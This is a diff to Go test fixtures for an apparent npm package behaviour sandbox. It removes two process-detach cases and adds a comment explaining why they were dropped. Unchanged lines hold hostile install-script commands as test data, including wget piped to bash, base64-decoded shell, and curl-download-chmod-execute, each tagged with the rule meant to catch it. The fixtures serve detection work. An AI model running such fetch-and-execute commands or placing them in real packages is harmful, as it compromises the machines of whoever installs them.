@@ -104,10 +104,8 @@ func lbNpmBehaviour() []lbPkg {
 		{name: "lb-dl-wgetbash", script: quiet("wget -q -O- http://" + lbHost + "/i.sh | bash"), rules: []string{"PB-BEHAVIOUR-DOWNLOAD-EXEC"}},
 		{name: "lb-dl-b64sh", script: quiet("echo " + base64.StdEncoding.EncodeToString([]byte("id > /tmp/.lb\n")) + " | base64 -d | sh"), rules: []string{"PB-BEHAVIOUR-DOWNLOAD-EXEC"}},
 		{name: "lb-dl-chmod", script: quiet("curl -s -o /tmp/.lbx http://" + lbHost + "/x; chmod +x /tmp/.lbx; /tmp/.lbx"), rules: []string{"PB-BEHAVIOUR-DOWNLOAD-EXEC"}},
-		// Processes that try to outlive the script.
-		{name: "lb-detach-setsid", script: "setsid sleep 2 >/dev/null 2>&1 & true", rules: []string{"PB-BEHAVIOUR-DETACH"}},
-		{name: "lb-detach-node", script: "node i.js", rules: []string{"PB-BEHAVIOUR-DETACH"},
-			files: map[string]string{"i.js": nodeQuiet("require('child_process').spawn('sleep', ['2'], {detached: true, stdio: 'ignore'}).unref();")}},
+		// Processes that try to outlive the script (setsid) are a warning, not
+		// here: yarn 1 starts every lifecycle script detached.
 		// System calls the sandbox refuses.
 		{name: "lb-sys-unshare", script: quiet("unshare -U true"), rules: []string{"PB-BEHAVIOUR-REFUSED-SYSCALL"}},
 		{name: "lb-sys-ptrace", script: quiet("strace -f -o /dev/null true"), rules: []string{"PB-BEHAVIOUR-REFUSED-SYSCALL"}},
